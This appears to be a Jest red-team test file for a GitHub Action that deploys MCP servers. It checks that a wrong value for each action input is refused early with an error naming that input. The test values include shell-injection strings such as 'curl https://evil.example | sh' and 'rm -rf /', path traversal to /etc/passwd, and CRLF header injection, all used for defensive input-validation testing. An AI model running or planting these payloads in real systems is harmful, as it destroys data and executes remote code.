/**
 * Red team: one wrong value for every input of action.yml, through the bundle. A value that can be
 * known wrong from the inputs alone is refused before any phase starts (no toolchain, no render, no
 * build) with one `::error` naming the input; the few that can only fail when used (a build command
 * that fails, a binary that is not there) fail naming the input when they are used.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import * as fs from 'node:fs'
import * as os from 'node:os'
import * as path from 'node:path'
import { parse } from 'yaml'
import { expectHandledFault, runTimed } from '../../testkit/red-team.js'
import { makeWorkDir, REPO_ROOT } from '../../testkit/workdir.js'

const GITHUB_TOKEN = 'ghs_RedTeamInputsToken0123456789abcdef'
const SMOKE_TOKEN = 'mcp_RedTeamSmokeToken_5f1e2d3c4b5a6978'
const SECRET_VALUE = 'sk_RedTeamSecretValue_a1b2c3d4e5f6'

interface WrongInput {
  input: string
  value: string
  /** What the `::error` must say [the input's name]. */
  says?: RegExp
  /** Other inputs the case needs (e.g. `command: rollback` for `rollback-to`). */
  with?: Record<string, string>
  /** Only knowable when used (a build command that fails): phases may run before the error. */
  late?: boolean
}

const WRONG_INPUTS: WrongInput[] = [
  { input: 'command', value: 'deploy; rm -rf /' },
  { input: 'target', value: 'gcp' },
  { input: 'role-to-assume', value: 'not-an-arn' },
  { input: 'aws-region', value: 'mars-north-1' },
  { input: 'role-session-name', value: 'a' },
  { input: 'role-duration-seconds', value: '1e3' },
  { input: 'audience', value: 'two words' },
  { input: 'workload-identity-provider', value: 'projects/1/locations/global\nX-Injected: 1' },
  { input: 'service-account', value: 'deploy@p.iam.gserviceaccount.com\r\nX-Injected: 1' },
  { input: 'working-directory', value: '..' },
  { input: 'config', value: '../../../../etc/passwd' },
  { input: 'environment', value: 'staging' },
  { input: 'preview-id', value: '../../x; rm -rf /', with: { environment: 'preview' } },
  { input: 'pr-number', value: '99999999999999999999999999' },
  { input: 'rollback-to', value: 'last week', with: { command: 'rollback' } },
  {
    input: 'confirm-destroy',
    value: 'somebody-elses-stack',
    with: { command: 'destroy' },
    says: /confirm-destroy/
  },
  { input: 'production-branch', value: 'main..dev' },
  { input: 'max-preview-age', value: '-3' },
  { input: 'fail-on-destructive-changes', value: 'maybe' },
  { input: 'architecture', value: 'mips' },
  { input: 'rust-toolchain', value: 'stable; curl https://evil.example | sh' },
  { input: 'cargo-lambda-version', value: '../../../../tmp/x' },
  { input: 'zig-version', value: 'latest && rm -rf ~' },
  { input: 'mcp-tester-version', value: '2.22.4/../../evil' },
  { input: 'cargo-lambda-url', value: 'not a url' },
  { input: 'zig-url', value: 'file:///etc/passwd' },
  { input: 'mcp-tester-url', value: 'javascript:alert(1)' },
  { input: 'build-command', value: 'exit 3', late: true },
  { input: 'binary-path', value: 'target/does/not/exist/bootstrap', late: true },
  { input: 'cdk-args', value: '--context "unclosed' },
  { input: 'cdk-bootstrap', value: 'yes please' },
  { input: 'hotswap', value: 'sometimes' },
  { input: 'smoke-test', value: 'curl' },
  { input: 'smoke-test-url', value: 'not a url' },
  { input: 'smoke-test-scenario', value: 'tests/missing-scenario.yaml', with: { 'smoke-test': 'mcp-tester' } },
  { input: 'smoke-test-token', value: `${SMOKE_TOKEN}\r\nX-Injected: 1` },
  { input: 'smoke-test-timeout', value: '0' },
  { input: 'rollback-on-failure', value: 'sometimes' },
  { input: 'secrets', value: `API_KEY=${SECRET_VALUE}\nno-equals-sign-here`, says: /secrets/ },
  {
    input: 'pmcp-client-id',
    value: 'client-id-without-its-secret',
    with: { target: 'pmcp-run', secrets: '' },
    says: /pmcp-client-(id|secret)/
  },
  {
    input: 'pmcp-client-secret',
    value: 'secret-without-its-client-id',
    with: { target: 'pmcp-run', secrets: '' },
    says: /pmcp-client-(id|secret)/
  },
  { input: 'pmcp-access-token', value: 'two words\nand a line', with: { target: 'pmcp-run', secrets: '' } },
  { input: 'github-token', value: `${GITHUB_TOKEN}\r\nX-Injected: 1` },
  { input: 'comment', value: 'nope' },
  { input: 'cache', value: 'sometimes' },
  { input: 'save-cache', value: 'always' },
  { input: 'cache-key', value: 'a,b' },
  { input: 'cache-on-failure', value: 'maybe' },
  { input: 'request-timeout', value: '0' }
]

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')
}

describe('red team: a wrong value for every input', () => {
  let work: { dir: string; remove: () => void }
  let scratch: string
  let binary: string

  beforeAll(() => {
    work = makeWorkDir('redteam-inputs')
    fs.mkdirSync(path.join(work.dir, '.pmcp'))
    fs.writeFileSync(path.join(work.dir, '.pmcp', 'deploy.toml'), '[server]\nname = "rt-inputs"\n\n[secrets]\nAPI_KEY = "upstream key"\n')
    scratch = fs.mkdtempSync(path.join(os.tmpdir(), 'pmcp-redteam-inputs-'))
    binary = path.join(scratch, 'bootstrap')
    // Any Linux executable passes for the server binary: nothing here runs it.
    fs.copyFileSync('/bin/true', binary)
  })

  afterAll(() => {
    work?.remove()
    if (scratch) fs.rmSync(scratch, { recursive: true, force: true })
  })

  it('covers every input of action.yml', () => {
    const actionYml = parse(fs.readFileSync(path.join(REPO_ROOT, 'action.yml'), 'utf8')) as { inputs: Record<string, unknown> }
    expect(WRONG_INPUTS.map(wrong => wrong.input).sort()).toEqual(Object.keys(actionYml.inputs).sort())
  })

  it.each(WRONG_INPUTS.map(wrong => [wrong.input, wrong] as const))('%s', async (_input, wrong) => {
    const eventPath = path.join(scratch, `event-${wrong.input}.json`)
    fs.writeFileSync(
      eventPath,
      JSON.stringify({ ref: 'refs/heads/main', repository: { full_name: 'octo-org/octo-repo', default_branch: 'main' } })
    )
    const inputs: Record<string, string> = {
      'working-directory': path.relative(REPO_ROOT, work.dir),
      'build-command': 'true',
      'binary-path': binary,
      architecture: 'x86_64',
      'aws-region': 'us-east-1',
      'smoke-test': 'none',
      cache: 'false',
      'github-token': GITHUB_TOKEN,
      'smoke-test-token': SMOKE_TOKEN,
      secrets: `API_KEY=${SECRET_VALUE}`,
      'request-timeout': '2',
      ...wrong.with,
      [wrong.input]: wrong.value
    }
    const run = await runTimed(inputs, {
      GITHUB_EVENT_NAME: 'push',
      GITHUB_EVENT_PATH: eventPath,
      GITHUB_REPOSITORY: 'octo-org/octo-repo',
      GITHUB_REF: 'refs/heads/main',
      GITHUB_SHA: 'c0ffee0123456789abcdef0123456789abcdef01',
      GITHUB_RUN_ID: '19',
      RUNNER_TOOL_CACHE: fs.mkdtempSync(path.join(scratch, 'tool-cache-')),
      // No AWS anywhere: a wrong value that slips through ends at the credentials, never at a real account.
      AWS_ENDPOINT_URL: 'http://127.0.0.1:9',
      AWS_ACCESS_KEY_ID: '',
      AWS_SECRET_ACCESS_KEY: '',
      AWS_EC2_METADATA_DISABLED: 'true',
      PMCP_API_URL: 'http://127.0.0.1:9',
      // rustup prints a Rust backtrace when it cannot reach its servers here; a runner does not set this.
      RUST_BACKTRACE: '0'
    })
    const started = /^::group::/m.test(run.stdout) || fs.existsSync(path.join(work.dir, '.pmcp', 'cdk'))
    fs.rmSync(path.join(work.dir, '.pmcp', 'cdk'), { recursive: true, force: true })
    expectHandledFault(run, {
      error: wrong.says ?? new RegExp(`'?${escapeRegExp(wrong.input)}'?`),
      secrets: [GITHUB_TOKEN, SMOKE_TOKEN, SECRET_VALUE],
      sideEffects: !wrong.late && started ? [`phases ran (toolchain, render or build) before input '${wrong.input}' was refused`] : []
    })
  })
})
